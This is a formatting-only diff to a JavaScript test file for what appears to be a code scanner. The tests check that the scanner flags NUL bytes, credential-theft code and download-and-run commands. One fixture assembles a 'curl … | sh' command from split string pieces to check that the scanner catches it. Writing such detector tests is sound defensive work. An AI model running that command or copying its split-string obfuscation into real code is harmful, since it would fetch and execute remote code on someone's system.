@@ -16,7 +16,9 @@ it.each(['run.py', 'run.txt', 'run.dat', 'run', 'run.png'])('reads source code i
 
 it('reads text with NUL bytes, wherever they are, and reports them', async () => {
   for (const text of [`/*\0*/${theft}`, `${theft}${'# more\n'.repeat(2000)}\0`, theft.split('').join('\0')]) {
-    expect(await rulesIn({ 'run.py': text })).toEqual(expect.arrayContaining(['FILE-NUL-BYTES', 'CREDENTIAL-FILE-CODE']))
+    expect(await rulesIn({ 'run.py': text })).toEqual(
+      expect.arrayContaining(['FILE-NUL-BYTES', 'CREDENTIAL-FILE-CODE']),
+    )
   }
   expect(await rulesIn({ 'run.py': theft })).not.toContain('FILE-NUL-BYTES')
 })
@@ -42,8 +44,8 @@ it('reports source code that is too long to be parsed, and other text that is to
 })
 
 it('reads the texts that code puts together', async () => {
-  expect(await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' })).toContain(
-    'DOWNLOAD-PIPE-PLAIN',
-  )
+  expect(
+    await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' }),
+  ).toContain('DOWNLOAD-PIPE-PLAIN')
   expect(await rulesIn({ 'a.py': 'c = "see " + "the docs of " + "the tool"\nrun(c)\n' })).toEqual([])
 })
